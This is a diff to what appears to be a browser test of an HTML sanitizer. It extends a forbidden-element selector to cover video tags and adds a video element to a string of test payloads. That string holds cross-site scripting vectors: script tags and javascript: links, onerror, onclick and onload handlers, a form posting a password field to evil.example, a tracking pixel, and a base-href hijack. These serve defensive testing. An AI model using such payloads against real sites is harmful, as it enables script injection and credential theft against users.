@@ -237,7 +237,7 @@ test(
       'nobody else is asked for anything',
     );
     const wrong =
-      '.story :is(script, iframe, form, input, base, svg, [onclick], [onerror], [href^=javascript])';
+      '.story :is(script, iframe, video, form, input, base, svg, [onclick], [onerror], [href^=javascript])';
     assert.equal(await page.locator(wrong).count(), 0);
     assert.equal(await page.evaluate('typeof __pwned'), 'undefined');
     assert.equal(
@@ -294,6 +294,7 @@ async function troubled(id: string): Promise<void> {
 const LET_THROUGH = `<script>__pwned=1</script><img src="javascript:__pwned=1" onerror="__pwned=1"><p onclick="__pwned=1">text</p>
 <iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"></form>
 <img src="https://evil.example/count.gif" width="1" height="1"><a href="javascript:__pwned=1">link</a>
+<video controls poster="https://evil.example/p.png" src="https://evil.example/film.mp4"></video>
 <svg onload="__pwned=1"><script>__pwned=1</script></svg><base href="https://evil.example/">`;
 
 async function article(): Promise<string> {
